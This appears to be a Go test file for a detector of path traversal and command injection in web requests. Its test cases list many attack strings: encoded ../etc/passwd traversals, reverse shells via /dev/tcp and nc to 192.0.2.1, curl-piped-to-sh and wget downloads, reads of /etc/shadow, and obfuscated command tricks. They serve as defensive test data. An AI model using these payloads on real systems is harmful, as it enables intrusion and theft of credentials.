package anomaly

import (
	"net/netip"
	"net/url"
	"strings"
	"testing"
)

func TestPathsThatClimb(t *testing.T) {
	for _, path := range []string{
		"../etc/passwd", "/../etc/passwd", "/a/../../etc/passwd", `..\windows\win.ini`, "/static/..;/..;/admin", "/a/./../../b",
		"%2e%2e/etc/passwd", "%2e%2e%2fetc", "..%2f..%2fetc", "%252e%252e%252fetc", "%25252e%25252e/x", "/a/%2e%2e/b", "/a/..%5c..%5cb", "/a/%2E./b",
		"..%c0%afetc", "%c0%ae%c0%ae/etc",
		"....//....//etc/passwd", `....\/....\/x`, "..././..././x", "....%2f%2f....%2f%2fx", `x\x\x\x/../../../../etc`, `/\xE9\xE9\xE9/../../../etc`, "%%32%65%%32%65/x",
		"..%c0%2fx", "%c0%2e%c0%2e/x", "..%c1%1cx", "..%f0%80%80%afx", "..%f8%80%80%80%afx", "..%fc%80%80%80%80%afx", "..%25c0%25afx", "\xc0\xae\xc0\xae/x",
		"%ef%bc%8e%ef%bc%8e%ef%bc%8fx", "．．／x", "..%ef%bc%bcx", "‥/x", "..%uff3cx", "..%0a/x", "..%09/x", ".%00./x", "/a%00/../../x", "%u002e%u002e/x", "%uff0e%uff0e%u2215x", "%e0%80%ae%e0%80%ae/x", "..%00/x", "..", "/img/../../../x.png", "..%255c..%255cx",
	} {
		if !IsPathTraversal(path) {
			t.Errorf("%q is not seen", path)
		}
	}
}

func TestPathsThatDoNot(t *testing.T) {
	for _, path := range []string{
		"", "/", "/index.html", "/a/../b", "a/b/../../c", "/files/report..pdf", "/v1/...", "/a/..b/c", "/a/b..", "1..10", "Wait... what", "/search?q=%2e", "100%", "%", "%2", "%zz",
		"/a/%20b/c", "main..feature", "/compare/v1.0...v1.1", "/%7Euser/", "file:///C:/x", "https://example.com/a/../b",
		"./...", "v1.0....v2", "/x/....", "foo.../bar", "/À../x", "/a/b/../c/./d/", "1．/2", "待って‥", `C:\a\..\b`, "/a..\\..b", "\xe0\x80", "%c0", "%u00",
	} {
		if IsPathTraversal(path) {
			t.Errorf("%q is taken for one", path)
		}
	}
}

func TestInputsThatRunCommands(t *testing.T) {
	for _, input := range []string{
		"127.0.0.1; cat /etc/passwd", "127.0.0.1;id", "x|whoami", "x && ls", "x || uname -a", "$(id)", "`whoami`", "a`id`b", "x\ncat /etc/shadow",
		"; c''at /etc/passwd", `; c\at /etc/passwd`, "; cat${IFS}/etc/passwd", ";cat$IFS/etc/passwd", ";{cat,/etc/passwd}", ";/bin/cat x", "; /???/c?t /etc/x", `;wh""oami`,
		"%3Bid", "%253B%2520cat%2520/etc/passwd", "x & ping -c 1 192.0.2.1", "x; sleep 5", "x | sleep 10", "a;wget http://192.0.2.1/x.sh", "a; curl -s http://x | sh", "& ipconfig", "&& dir C:\\", "| powershell -enc AAA=",
		"x; bash -i >& /dev/tcp/192.0.2.1/99 0>&1", "job;nc -e /bin/sh 192.0.2.1 1", "<(cat /etc/passwd)", "; python3 -c 'x'", "x; echo $PATH", "$(sleep 5)", "`sleep 5`", "a|cat /etc/hosts|b", "a;ls;b", "a; CMD.EXE /c dir",
		";'c'at /etc/passwd", `;c"a"t /etc/passwd`, ";'cat' /etc/passwd", ";ca$1t /etc/passwd", ";$'cat' /etc/passwd", "& c^md /c dir", "& who^ami", `& w"h"oami`, `& C:\Windows\System32\cmd.exe /c dir`,
		";sudo id", "; nohup wget x", "; time id", ";exec /bin/sh", ";\tid", ";\vid", "$(</etc/passwd)", ";cd /tmp", ";cd${IFS}/tmp;x", "; chmod 777 x", ";curl 192.0.2.1", "; curl example.com", ";wget 192.0.2.1/x",
		";host example.com", "& wmic process", "& schtasks /create", "192.0.2.1|id|x", "see: ;id", "x `cat /etc/passwd`", "\r\nid", "1?a=b&cat /etc/passwd", "a=1;id", ";id;", "|id|", "id|ls",
	} {
		if !IsCommandInjection(input) {
			t.Errorf("%q is not seen", input)
		}
	}
}

func TestInputsThatDoNot(t *testing.T) {
	for _, input := range []string{
		"", "Anna", "black; cat lovers", "R&D", "Passport & id", "bread | butter", "cats; dogs", "Tom & Jerry; more to come", "AT&T", "a < b > c", "x; y; z", "if (a) { b; }", "5 > 3; 2 < 4",
		"Q&A; find 3 bugs", "one; echo of the past", "the host; who else", "`code`", "price: $(5)", "a|b|c", "50% off; sleep well", "name=Anna&host=example", "cat", "please ping me", "id; name; mail", "line one\nfind out more\nthe end",
		"SELECT a; DROP", "<b>bold</b>", "&amp;", "&lt;id&gt;", "let x = `${name}`;", "a;b;c", "kill; or be killed", "100%;", "Sleep & rest", "net; gross", "2 | 4 | 8", "head & shoulders", "go; type well",
		"Use `ls` to list files", "run `cat file`, then go", "the `id` field", "see `php -v` (or `python3`)", "nginx & php", "Git & Bash", "Linux, Apache; PHP", "mp3;php", "bash | zsh | sh", "python|node|ruby|php",
		"https://example.com/?a=1&id", "https://example.com/?id=5&host&type=x", "id|name|host", "name;id;type;host", "| id | name |\n|---|---|", "name\nid\nhost", "red|set|blue", "; id = 7", "BEGIN;\nset x=1",
		"cats; more and/or dogs", "price; more $5", "Tom; find @ann", "; type n/a", "more; find e.g. a dog", "AT&T/head", "a; sudo make me a sandwich", "{\"a\":1;\"id\":2}", "a ⁄ b; c", "Y2F0IC9ldGM7aWQ=", "sort=name;date", "text/html; q=0.8",
	} {
		if IsCommandInjection(input) {
			t.Errorf("%q is taken for one", input)
		}
	}
}

// What a request asks for is looked at where a server looks for it: the path, and the
// names and values of the query, each as it is once the server has decoded it.
func TestTargets(t *testing.T) {
	for _, tt := range []struct {
		target string
		want   Kind // empty: it is honest
	}{
		{"/x?../../etc/passwd", Traversal}, {"/x?a&../../../etc/passwd%00", Traversal}, {"/x?;id", Injection}, {"/x?|cat+/etc/passwd", Injection},
		{"/x?f=..%2f..%2fetc", Traversal}, {"/x?f=%2e%2e%2fetc", Traversal}, {"/x?f=a%252f..%252f..%252fb", Traversal}, {"/x?a=" + strings.Repeat("A", 9_000) + "&f=../etc", Traversal},
		{"/x?url=https%3A%2F%2Fexample.com%2Fa%2F..%2Fb", ""}, {"/x?path=a%2F..%2Fb", ""}, {"/x?path=a/../b", ""}, {"/x?diff=main..feature", ""}, {"/x?next=%2Fhome&id=5", ""}, {"/x?a;b=1", ""},
		{"/cgi-bin/;wget${IFS}http://192.0.2.1/x", Injection}, {"/ping/192.0.2.1;cat%20/etc/passwd", Injection}, {"/a/$(id)/b", Injection}, {"/%60id%60", Injection},
		{"/item;jsessionid=5", ""}, {"/hero;id=15;name=x", ""}, {"/wiki/AT%26T/head", ""}, {"/tags/a|b", ""}, {"/a;v=1/b", ""},
	} {
		var got Kind
		for _, e := range Requested(netip.MustParseAddr("192.0.2.1"), tt.target, 0, "") {
			got = e.Kind
		}
		if got != tt.want {
			t.Errorf("%.80q is %q, want %q", tt.target, got, tt.want)
		}
	}
}

func TestOnlyTheBeginningIsRead(t *testing.T) {
	if long := strings.Repeat("a/", 1<<20) + "../"; IsPathTraversal(long) || IsCommandInjection(strings.Repeat("a", 1<<20)+";id") {
		t.Error("more than the first 32 KiB is read")
	}
}

// What is seen in plain is seen when it is escaped once and twice more.
func FuzzRecognisers(f *testing.F) {
	for _, s := range []string{"../x", "..%2f", "; cat /etc/passwd", "$(id)", "%u002e", "`a`", "%%%", ";c''at /"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > 512 {
			return
		}
		twice := url.PathEscape(url.PathEscape(s))
		if !strings.Contains(s, "%") && IsPathTraversal(s) && !IsPathTraversal(twice) {
			t.Errorf("%q is seen, %q is not", s, twice)
		}
		if !strings.Contains(s, "%") && IsCommandInjection(s) && !IsCommandInjection(twice) {
			t.Errorf("%q is seen as a command, %q is not", s, twice)
		}
	})
}
